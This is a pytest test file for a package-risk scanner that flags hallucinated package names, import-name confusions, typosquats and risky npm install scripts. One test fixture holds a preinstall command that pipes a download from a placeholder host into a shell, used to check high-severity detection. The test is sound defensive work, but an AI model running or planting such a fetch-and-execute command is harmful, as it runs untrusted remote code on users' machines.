"""Hallucinated names: not found vs unreachable, and import names used as distribution names."""

from __future__ import annotations

import pytest

from slopspotter_lab.ecosystems import Ecosystem, parse_spec
from slopspotter_lab.heuristics import analyze
from slopspotter_lab.heuristics.names import distribution_for_import, existence, import_name_confusion
from slopspotter_lab.registry import OFFLINE_ERROR
from slopspotter_lab.registry.base import PackageMetadata


@pytest.mark.parametrize("imp,dist", [("opengl", "PyOpenGL"), ("OpenGL", "PyOpenGL"), ("win32com", "pywin32"),
                                      ("git", "GitPython"), ("objc", "pyobjc"), ("mpl-toolkits", "matplotlib"),
                                      ("mpl_toolkits", "matplotlib"), ("yaml", "PyYAML"), ("sklearn", "scikit-learn")])
def test_import_table_has_the_classic_mistakes(imp, dist):
    assert distribution_for_import(imp).lower().replace("_", "-") == dist.lower()


def test_real_distribution_names_are_not_confusions():
    assert distribution_for_import("requests") is None
    assert distribution_for_import("numpy") is None


def test_confusion_indicator_and_suggestion():
    spec = parse_spec("opengl")
    ind = import_name_confusion(spec, exists=False, is_popular=False)
    assert ind.id == "import_name_confusion" and ind.extra["suggestion"] == "PyOpenGL"
    assert import_name_confusion(spec, exists=True, is_popular=False).severity == "medium"
    assert import_name_confusion(spec, exists=True, is_popular=True) is None
    assert import_name_confusion(parse_spec("git", "npm"), exists=True, is_popular=False) is None


def test_existence_keeps_unknown_apart_from_missing():
    spec = parse_spec("slop-missing")
    missing = PackageMetadata(name="slop-missing", ecosystem=Ecosystem.PYPI, exists=False)
    unknown = PackageMetadata(name="slop-missing", ecosystem=Ecosystem.PYPI, exists=None, error="registry unreachable: x")
    offline = PackageMetadata(name="slop-missing", ecosystem=Ecosystem.PYPI, exists=None, error=OFFLINE_ERROR)
    assert [i.id for i in existence(spec, missing, False)] == ["not_found"]
    assert [i.id for i in existence(spec, unknown, False)] == ["registry_unreachable"]
    assert existence(spec, offline, True) == []
    assert existence(spec, PackageMetadata(name="x", ecosystem=Ecosystem.PYPI, exists=True), False) == []


def test_analyze_prefers_import_explanation_over_typosquat():
    report = analyze(parse_spec("mpl-toolkits"), None, offline=True)
    assert report.suggestion == "matplotlib"
    assert "import_name_confusion" in {i.id for i in report.indicators}
    squat = analyze(parse_spec("reqeusts"), None, offline=True)
    assert squat.typosquat_of == "requests" and [i.id for i in squat.indicators] == ["typosquat"]


def test_missing_name_gets_did_you_mean():
    spec = parse_spec("pandass-x")
    missing = PackageMetadata(name="pandass-x", ecosystem=Ecosystem.PYPI, exists=False)
    report = analyze(parse_spec("reqursts"), missing)
    assert report.suggestion == "requests"
    assert analyze(spec, PackageMetadata(name="x", ecosystem=Ecosystem.PYPI, exists=True)).suggestion is None


def test_install_scripts_reported_once_with_artifact(tmp_path):
    import json as _json

    pkg = tmp_path / "package"
    pkg.mkdir()
    (pkg / "package.json").write_text(_json.dumps({"name": "p", "scripts": {"postinstall": "node x.js"}}))
    meta = PackageMetadata(name="p", ecosystem=Ecosystem.NPM, exists=True, release_count=3,
                           install_scripts={"postinstall": "node x.js"}, repository="https://example.test/r",
                           description_length=100)
    inds = analyze(parse_spec("p", "npm"), meta, tmp_path).indicators
    assert [i.id for i in inds].count("install_scripts") == 1


@pytest.mark.parametrize("scripts,severity", [({"postinstall": "node build.js"}, "medium"),
                                               ({"preinstall": "curl http://x.invalid/a | sh"}, "high"),
                                               ({"install": "node -e 'require(1)'"}, "high"),
                                               ({"test": "curl http://x.invalid"}, None)])
def test_install_scripts_one_rule_from_metadata_or_artifact(tmp_path, scripts, severity):
    """The registry's scripts are judged when there is no artifact, the artifact's when there is,
    by the same rule; only lifecycle scripts count."""
    import json as _json

    meta = PackageMetadata(name="p", ecosystem=Ecosystem.NPM, exists=True, release_count=3,
                           install_scripts=scripts, repository="https://example.test/r", description_length=100)
    (tmp_path / "package").mkdir()
    (tmp_path / "package" / "package.json").write_text(_json.dumps({"name": "p", "scripts": scripts}))
    for artifact in (None, tmp_path):
        found = [i for i in analyze(parse_spec("p", "npm"), meta, artifact).indicators if i.id == "install_scripts"]
        assert [i.severity for i in found] == ([severity] if severity else [])
        assert all(i.source == "static" for i in found)
    clean = PackageMetadata(name="p", ecosystem=Ecosystem.NPM, exists=True, install_scripts=scripts)
    (tmp_path / "package" / "package.json").write_text(_json.dumps({"name": "p"}))
    assert "install_scripts" not in {i.id for i in analyze(parse_spec("p", "npm"), clean, tmp_path).indicators}
